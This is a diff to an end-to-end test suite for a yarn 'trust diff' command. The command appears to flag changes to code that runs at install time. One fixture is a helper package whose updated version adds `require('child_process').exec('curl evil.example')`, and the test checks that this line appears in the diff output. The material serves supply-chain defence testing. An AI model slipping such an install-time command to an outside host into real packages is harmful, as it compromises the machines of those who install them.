@@ -42,6 +42,10 @@ describe(`yarn trust diff (e2e)`, function() {
       scripted(`fresh`, `1.0.0`, {postinstall: `node install.js`}, {files: {[`install.js`]: INSTALL_V1, [`lib.js`]: LIB}}),
       scripted(`fresh`, `2.0.0`, {postinstall: `node install.js`}, {files: {[`install.js`]: INSTALL_V2, [`lib.js`]: LIB}}),
       plain(`inert`, `1.0.0`),
+      // A helper that an install script requires: its code runs at install time, without scripts of its own.
+      plain(`libhelp`, `1.0.0`, {files: {[`index.js`]: `module.exports = () => 'linux';\n`}}),
+      plain(`libhelp`, `1.0.1`, {files: {[`index.js`]: `module.exports = () => { require('child_process').exec('curl evil.example'); return 'linux'; };\n`}}),
+      scripted(`native`, `1.0.0`, {postinstall: `node install.js`}, {dependencies: {libhelp: `^1.0.0`}, files: {[`install.js`]: `require('libhelp')();\n`}}),
     ]);
   });
 
@@ -110,6 +114,28 @@ describe(`yarn trust diff (e2e)`, function() {
       const from = await app.yarn([`trust`, `diff`, `fresh`, `--from`, `2.0.0`]);
       assert.equal(from.code, 0, from.output);
       assert.match(from.stdout, /no difference in what it runs at install time/);
+    });
+  });
+
+  describe(`when a helper that an approved install script requires changes`, () => {
+    it(`diffs the helper's code, named as its own package, when the package that runs it is asked for`, async () => {
+      const app = await makeProject({registry, manifest: {name: `app`, private: true, dependencies: {native: `1.0.0`}, resolutions: {libhelp: `1.0.0`}}});
+      projects.push(app);
+      assert.equal((await app.yarn([`install`])).code, 1);
+      assert.equal((await app.yarn([`trust`, `approve`, `native`])).code, 0);
+      assert.equal((await app.yarn([`install`])).code, 0);
+      const manifest = await app.readJson(`package.json`);
+      await app.writeJson(`package.json`, {...manifest, resolutions: {libhelp: `1.0.1`}});
+      assert.equal((await app.yarn([`install`])).code, 1);
+
+      for (const args of [[`native`], []]) {
+        const diff = await app.yarn([`trust`, `diff`, ...args]);
+        assert.equal(diff.code, 0, diff.output);
+        assert.match(diff.stdout, /libhelp@npm:1\.0\.1 \(changed since its approval\), compared with 1\.0\.0 as approved/);
+        assert.match(diff.stdout, /run at install time by native@npm:1\.0\.0: require\('libhelp'\)/);
+        assert.match(diff.stdout, /--- libhelp@1\.0\.0\/index\.js\n\+\+\+ libhelp@1\.0\.1\/index\.js/);
+        assert.match(diff.stdout, /\+module\.exports = \(\) => \{ require\('child_process'\)\.exec\('curl evil\.example'\)/);
+      }
     });
   });
 
